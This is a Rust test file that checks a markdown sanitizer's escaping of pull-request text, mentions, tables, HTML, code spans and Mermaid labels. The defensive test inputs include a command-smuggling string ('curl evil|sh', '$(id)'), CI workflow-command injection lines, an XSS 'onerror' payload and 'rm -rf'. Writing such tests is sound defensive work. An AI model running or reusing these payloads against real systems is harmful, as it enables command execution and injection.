//! `shiprig::markdown`, through its public API.

use shiprig::markdown::*;

#[test]
fn pull_request_text_stays_one_escaped_line() {
    let evil = "x\"; curl evil|sh; echo \"\n::add-mask::secret\r\n::stop-commands::t $(id) <b>";
    let safe = inline(evil, 1000);
    assert!(!safe.contains('\n') && !safe.contains('\r'));
    assert!(!safe.contains("\n::"));
    assert!(safe.contains("\\|") && safe.contains("\\<b\\>") && safe.contains("$(id)"));
    let long = "é".repeat(10_000);
    assert_eq!(inline(&long, 100).chars().count(), 101);
}

#[test]
fn mentions_ping_no_one() {
    let safe = inline("cc @everyone and @acme/security", 200);
    assert!(!safe.contains("@e") && !safe.contains("@a"), "{safe}");
    assert_eq!(
        safe.replace('\u{200b}', ""),
        "cc @everyone and @acme/security"
    );
}

#[test]
fn a_pipe_cannot_add_a_table_cell() {
    let row = format!("| {} | ok |", inline("a | b | c", 200));
    let unescaped = row
        .char_indices()
        .filter(|&(i, c)| c == '|' && !row[..i].ends_with('\\'))
        .count();
    assert_eq!(unescaped, 3, "{row}");
}

#[test]
fn html_and_entities_stay_text() {
    let safe = inline("<img src=x onerror=alert(1)> &lt;b&gt;", 200);
    assert_eq!(safe, "\\<img src=x onerror=alert(1)\\> \\&lt;b\\&gt;");
}

#[test]
fn links_emphasis_code_and_headings_stay_text() {
    let safe = inline(
        "# [click](https://evil.example) **now** `rm -rf` _x_ ~~y~~",
        200,
    );
    assert_eq!(
        safe,
        "\\# \\[click\\](https://evil.example) \\*\\*now\\*\\* \\`rm -rf\\` \\_x\\_ \\~\\~y\\~\\~"
    );
    assert_eq!(
        inline("a\\", 10),
        "a\\\\",
        "a trailing backslash escapes nothing"
    );
}

#[test]
fn a_code_span_outlasts_the_backticks_inside() {
    assert_eq!(code("abc1234", 12), "`abc1234`");
    assert_eq!(code("a ``b`` c", 50), "```a ``b`` c```");
    assert_eq!(code("`x`", 50), "`` `x` ``");
    assert_eq!(code("one\ntwo", 50), "`one two`");
    assert_eq!(code("abcdef", 3), "`abc…`");
}

#[test]
fn a_mermaid_label_cannot_close_its_node() {
    assert_eq!(
        mermaid_label("say \"hi\" <b>\n", 60),
        "say #quot;hi#quot; #lt;b#gt;"
    );
}
